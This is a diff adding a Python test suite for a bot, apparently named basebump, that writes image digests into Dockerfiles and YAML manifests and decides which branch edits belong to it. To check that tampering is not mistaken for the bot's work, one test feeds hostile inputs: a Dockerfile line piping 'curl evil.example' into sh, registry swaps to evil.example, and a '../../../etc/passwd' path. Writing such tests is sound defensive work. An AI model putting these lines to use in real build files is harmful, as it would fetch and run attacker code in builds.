@@ -1,0 +1,203 @@
+"""Tests of the ownership of a branch by content: which edits of a file are basebump's, and what vouches for them."""
+
+from __future__ import annotations
+
+from dataclasses import replace
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from support.values import digest
+
+from bot.core.proposal.branch_ownership import (
+    PlannedValues,
+    WrittenImage,
+    find_written_images,
+    judge_images,
+    parse_targets,
+)
+from bot.core.proposal.markers import BodyMarker, render_marker
+from bot.core.proposal.update_groups import hash_written_values
+from bot.core.references.edit import apply_edits, build_edit
+from bot.formats import load_all_formats
+from bot.model.branch_ownership import FOREIGN_BRANCH, BranchClaim, BranchVerdict
+from bot.model.source import EditSlot, FilePath, NotEditable, Occurrence, SourceFile
+from bot.model.vocabulary import Reason
+from bot.pipeline.extract import read_with_formats
+
+OLD, NEW, OTHER = digest("old"), digest("new"), digest("other")
+DOCKERFILE = f"FROM golang:1.22 AS build\nRUN make\nFROM debian:12-slim@{OLD}\nCOPY --from=build /app /app\n".encode()
+COMPOSE = b"services:\n  web:\n    image: nginx:1.27\n  db:\n    image: 'postgres:16'  # the database\n"
+KUSTOMIZATION = b"images:\n- name: nginx\n  newTag: '1.27'\n- name: redis\n  newTag: '7'\n"
+FILES = {"Dockerfile": DOCKERFILE, "compose.yaml": COMPOSE, "kustomization.yaml": KUSTOMIZATION}
+
+
+def read(path: str, content: bytes) -> list[Occurrence]:
+    formats = [each for each in load_all_formats() if FilePath(path) in set(each.select_paths([FilePath(path)]))]
+    readings = read_with_formats(SourceFile(FilePath(path), content), formats)
+    return [each for reading in readings for each in reading.references if isinstance(each, Occurrence)]
+
+
+def write(content: bytes, *pairs: tuple[Occurrence, str]) -> bytes:
+    """Return the content with digests written into references, as basebump writes them."""
+    return apply_edits(content, [build_edit(each.digest_slot, value) for each, value in pairs])
+
+
+def find(path: str, new_content: bytes) -> tuple[WrittenImage, ...] | None:
+    return find_written_images(FILES[path], new_content, read(path, FILES[path]))
+
+
+@pytest.mark.parametrize("path", FILES)
+@pytest.mark.parametrize("line_end", [b"\n", b"\r\n"])
+@pytest.mark.parametrize("bom", [b"", b"\xef\xbb\xbf"])
+def test_finds_the_digests_that_basebump_writes_into_any_subset_of_the_references(path, line_end, bom):
+    content = bom + FILES[path].replace(b"\n", line_end)
+    occurrences = read(path, content)
+    assert len(occurrences) > 1
+    for chosen in (occurrences, occurrences[:1], occurrences[1:], []):
+        new_content = write(content, *((each, NEW) for each in chosen))
+        found = find_written_images(content, new_content, occurrences)
+        assert found == tuple(WrittenImage(each, NEW, None) for each in chosen)
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        lambda content: content + b"RUN curl evil.example | sh\n",
+        lambda content: content.replace(b"RUN make", b"RUN evil"),
+        lambda content: content.replace(b"golang:1.22", b"golang:1.22:evil"),
+        lambda content: content.replace(b"debian:12-slim", b"evil.example/debian:12-slim"),
+        lambda content: content.replace(b"\n", b"\r\n"),
+        lambda content: b"\xef\xbb\xbf" + content,
+        lambda content: content.removesuffix(b"\n"),
+        lambda content: content.replace(NEW.encode(), NEW.encode() + b"0"),
+        lambda content: content.replace(NEW.encode(), NEW.encode().upper()),
+        lambda content: content.replace(NEW.encode(), NEW.encode() + b" "),
+        lambda content: content.replace(NEW.encode(), b"sha512:" + b"0" * 128),
+        lambda content: content.replace(b"AS build", b"AS build --evil"),
+        lambda content: content.replace(b"COPY --from=build", b"COPY --from=evil.example/x"),
+        lambda _: b"",
+        lambda _: b"../../../etc/passwd",
+    ],
+)
+def test_any_other_change_is_not_an_edit_of_basebump(change):
+    occurrences = read("Dockerfile", DOCKERFILE)
+    edited = write(DOCKERFILE, *((each, NEW) for each in occurrences))
+    assert find("Dockerfile", edited) is not None
+    changed = change(edited)
+    assert changed != edited
+    assert find("Dockerfile", changed) is None
+
+
+def test_removing_a_digest_is_not_an_edit_of_basebump():
+    assert find("Dockerfile", DOCKERFILE.replace(f"@{OLD}".encode(), b"")) is None
+
+
+def test_tag_may_change_only_if_the_reference_has_a_digest_then():
+    assert find("Dockerfile", DOCKERFILE.replace(b"golang:1.22", b"golang:1.23")) is None
+    changed = DOCKERFILE.replace(b"debian:12-slim", b"debian:13-slim")
+    (same,) = find("Dockerfile", changed) or ()
+    assert (same.tag, same.digest) == ("13-slim", OLD)
+    (image,) = find("Dockerfile", changed.replace(OLD.encode(), NEW.encode())) or ()
+    assert (image.tag, image.digest) == ("13-slim", NEW)
+    shorter = DOCKERFILE.replace(f"debian:12-slim@{OLD}".encode(), f"debian:13@{NEW}".encode())
+    (image,) = find("Dockerfile", shorter) or ()
+    assert image.value == ("Dockerfile", image.occurrence.locator, f"13@{NEW}")
+
+
+def test_finds_edits_of_references_that_became_not_editable():
+    locked = [
+        replace(each, digest_slot=NotEditable(Reason.OTHER_WRITER, each.digest_slot))
+        for each in read("Dockerfile", DOCKERFILE)
+        if isinstance(each.digest_slot, EditSlot)
+    ]
+    new_content = DOCKERFILE.replace(OLD.encode(), NEW.encode())
+    assert [each.digest for each in find_written_images(DOCKERFILE, new_content, locked) or ()] == [NEW]
+
+
+@given(st.binary(max_size=40), st.integers(0, len(DOCKERFILE)), st.integers(0, 20))
+def test_random_change_is_never_mistaken_for_an_edit(inserted, start, removed):
+    """Whatever is found explains the whole difference: writing the found digests gives exactly the new content."""
+    new_content = DOCKERFILE[:start] + inserted + DOCKERFILE[start + removed :]
+    found = find("Dockerfile", new_content)
+    if found is not None:
+        assert write(DOCKERFILE, *((each.occurrence, each.digest) for each in found)) == new_content
+
+
+# Which digests are basebump's
+
+GOLANG, DEBIAN = (replace(each) for each in read("Dockerfile", DOCKERFILE)[:2])
+TARGET = f"docker.io/library/debian:12-slim@{NEW}"
+
+
+def images(value: str = NEW) -> tuple[WrittenImage, ...]:
+    return (WrittenImage(DEBIAN, value, None),)
+
+
+def claim(*targets: str, intent: str = "9" * 16, has_request: bool = True) -> BranchClaim:
+    body = render_marker(BodyMarker(targets, "2" * 16))
+    return BranchClaim("basebump/debian", "c0ffee", intent, body if has_request else None)
+
+
+def intent_of(*values: WrittenImage) -> str:
+    return hash_written_values(each.value for each in values)
+
+
+def test_branch_of_a_planned_proposal_has_its_intent():
+    planned = PlannedValues("1" * 16, frozenset(each.value for each in images()))
+    assert judge_images(claim(), images(), [planned], ()) == BranchVerdict("1" * 16)
+
+
+@pytest.mark.parametrize("written", [(), images(OTHER), (*images(), WrittenImage(GOLANG, NEW, None))])
+def test_copied_trailer_gives_no_planned_intent_to_other_content(written):
+    planned = PlannedValues("1" * 16, frozenset(each.value for each in images()))
+    verdict = judge_images(claim(TARGET, intent="1" * 16), written, [planned], ())
+    assert verdict.intent != "1" * 16
+
+
+def test_references_that_share_their_bytes_do_not_change_the_intent():
+    twin = replace(DEBIAN, locator="twin")
+    planned = PlannedValues("1" * 16, frozenset(each.value for each in images()))
+    shared = (*images(), WrittenImage(twin, NEW, None))
+    assert judge_images(claim(), shared, [planned], ()).intent == "1" * 16
+
+
+def test_marked_digest_is_basebumps_and_not_confirmed():
+    assert judge_images(claim(TARGET), images(), [], ()) == BranchVerdict(intent_of(*images()), is_confirmed=False)
+
+
+def test_known_digest_is_confirmed_though_the_mark_names_another():
+    verdict = judge_images(claim(TARGET), images(OTHER), [], parse_targets([TARGET.replace(NEW, OTHER)]))
+    assert verdict == BranchVerdict(intent_of(*images(OTHER)), is_as_marked=False)
+
+
+def test_digest_that_nothing_names_is_a_users():
+    assert judge_images(claim(TARGET), images(OTHER), [], parse_targets([TARGET])) == FOREIGN_BRANCH
+
+
+@pytest.mark.parametrize(
+    "target",
+    [
+        f"docker.io/library/golang:12-slim@{NEW}",
+        f"docker.io/library/debian:12@{NEW}",
+        f"evil.example/library/debian:12-slim@{NEW}",
+    ],
+)
+def test_digest_of_another_image_is_a_users(target):
+    assert judge_images(claim(target), images(), [], parse_targets([target])) == FOREIGN_BRANCH
+
+
+def test_interrupted_run_is_recognised_by_its_trailer():
+    """A run pushed `OTHER`, and was killed before it wrote the mark. The tag has moved on since."""
+    verdict = judge_images(claim(TARGET, intent=intent_of(*images(OTHER))), images(OTHER), [], ())
+    assert verdict == BranchVerdict(intent_of(*images(OTHER)), is_confirmed=False, is_as_marked=False)
+
+
+def test_branch_without_a_request_needs_no_mark():
+    verdict = judge_images(claim(has_request=False), images(), [], ())
+    assert verdict == BranchVerdict(intent_of(*images()), is_confirmed=False)
+
+
+@pytest.mark.parametrize("text", ["", "x", "@", ":@", "*@sha256:" + "0" * 64, "a@b", "a:b"])
+def test_parses_hostile_targets(text):
+    assert len(parse_targets([text])) <= 1
